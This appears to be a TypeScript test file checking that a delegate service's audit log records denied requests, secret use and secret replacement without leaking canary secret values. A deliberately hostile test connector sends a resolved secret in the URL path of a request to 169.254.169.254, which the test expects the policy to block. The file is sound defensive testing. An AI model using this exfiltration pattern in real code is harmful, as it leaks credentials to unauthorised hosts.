import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'chai';
import { compose } from '../../../src/compose.ts';
import { loadConfiguration } from '../../../src/config/load.ts';
import type { DefineConnector } from '../../../src/connectors/connector.ts';
import { Redactor, Secret } from '../../../src/kit/secret.ts';
import { systemClock } from '../../../src/kit/time.ts';
import { createLogger } from '../../../src/observability/logger.ts';
import { auditFolder } from '../../../src/observability/audit/folder.ts';
import { verifyAuditLog } from '../../../src/observability/audit/verify.ts';
import { findLeaks } from '../../support/canaries.ts';
import { assignOf } from '../../delegate/frames.ts';
import { leavesNothingOpen } from '../../support/open-handles.ts';
import { ScriptedManager } from '../../support/scripted-manager.ts';
import { tempDirs } from '../../support/temp-dir.ts';
import { recordsOf } from './disk.ts';

const CANARIES = new Map([
  ['enrolment token', 'canary-enrolment-token-5c1d'],
  ['secret', 'canary-password-77/+e1"'],
  ['replaced secret', 'canary-replaced-9a2b'],
]);

/** Fails with its own secret in every text, sends one where it may not go, and replaces one. */
const mean: DefineConnector = ({ secrets, http }) => ({
  capabilities: [],
  tasks: [
    {
      name: 'test.mean',
      version: 1,
      effect: 'reads',
      prepare: () => ({
        allowedBy: ['instances[0]'],
        async run(context) {
          const { signal } = context;
          const origins = ['https://acme.service-now.com'];
          const onUse = (name: string): void => context.usedSecret(name, origins);
          const secret = await secrets.resolve('file:rt', { signal, origins, onUse });
          await secrets.replace('file:rt', new Secret(CANARIES.get('replaced secret') ?? ''));
          const url = new URL(`https://169.254.169.254/${encodeURIComponent(secret.reveal())}`);
          await http.send({ method: 'GET', url, headers: {}, signal });
        },
      }),
    },
  ],
});

async function composedFor(
  manager: ScriptedManager,
  logged: string[],
  own: Readonly<Record<string, string>>,
) {
  const redactor = new Redactor();
  const configured = loadConfiguration({
    args: [],
    environment: {
      DELEGATE_MANAGER_URL: manager.url,
      DELEGATE_ENROLMENT_TOKEN: CANARIES.get('enrolment token') ?? '',
      DELEGATE_HTTP_PORT: '0',
      ...own,
    },
  });
  const destination = { write: (line: string) => void logged.push(line) };
  return await compose({
    errorCodes: new Set(),
    logLinesLost: () => 0,
    ...configured,
    connectors: [mean],
    environment: {},
    version: '26.11.90100',
    redactor,
    clock: systemClock,
    log: await createLogger({ level: 'info', format: 'json', redactor, destination }),
  });
}

describe('a delegate as it is composed', () => {
  const directory = tempDirs();
  leavesNothingOpen();

  it('writes who asked, what was denied, and which secret it used, and no value of any', async () => {
    const home = await directory();
    const secretsDir = join(home, 'secrets');
    await mkdir(secretsDir);
    await writeFile(join(secretsDir, 'rt'), CANARIES.get('secret') ?? '');
    await using manager = await ScriptedManager.start();
    const logged: string[] = [];
    await using composed = await composedFor(manager, logged, {
      DELEGATE_STATE_DIR: join(home, 'state'),
      DELEGATE_SECRETS_DIR: secretsDir,
      DELEGATE_WRITABLE_SECRETS: 'file:rt',
    });
    const { delegate } = composed;
    const run = delegate.run();
    const session = await manager.nextSession();
    session.send(assignOf({ name: 'test.mean' }));
    await session.next('task.result');
    // A manager that has learned of a secret elsewhere, and would have it written down.
    session.send(assignOf({ taskId: 't-2', name: CANARIES.get('secret') ?? '' }));
    await session.next('task.reject');
    await delegate.stop('the test is over', 0);
    await run;

    const folder = join(home, 'state', 'audit');
    const names = await readdir(folder);
    const texts = await Promise.all(names.map((name) => readFile(join(folder, name), 'utf8')));
    expect(
      findLeaks(
        CANARIES,
        texts.map((text, index) => ({ where: names[index] ?? '', text })),
      ),
    ).to.deep.equal([]);
    const records = recordsOf(texts[names.indexOf('audit-0000000001.ndjson')] ?? '');
    const byEvent = new Map(records.map((record) => [record.event, record]));
    expect([...byEvent.keys()].sort().join(' ')).to.equal(
      'connected disconnected enrolled policy-denied refused secret-replaced segment started stopped task task-ended',
    );
    expect(byEvent.get('started')).to.include({
      delegateId: null,
      managerUrl: manager.url,
      policyHash: null,
    });
    expect(byEvent.get('secret-replaced')).to.include({ name: 'file:rt' });
    expect(byEvent.get('policy-denied')).to.include({ subject: '169.254.169.254' });
    expect(byEvent.get('task-ended')).to.deep.include({
      outcome: 'failed',
      secrets: [{ name: 'file:rt', hosts: ['acme.service-now.com'] }],
    });
    expect(await verifyAuditLog(auditFolder(folder))).to.include({ isWhole: true });
    const last = records.at(-1);
    expect(
      logged.some((line) => line.includes('audit log head') && line.includes(last?.hash ?? '-')),
    ).to.equal(true);
  });

  it('keeps no audit log where its operator wants none', async () => {
    const home = await directory();
    await using manager = await ScriptedManager.start();
    await using composed = await composedFor(manager, [], {
      DELEGATE_STATE_DIR: home,
      DELEGATE_AUDIT_MAX_BYTES: '0',
    });
    const run = composed.delegate.run();
    await manager.nextSession();
    await composed.delegate.stop('the test is over', 0);
    await run;
    expect(await readdir(home)).to.not.include('audit');
  });
});
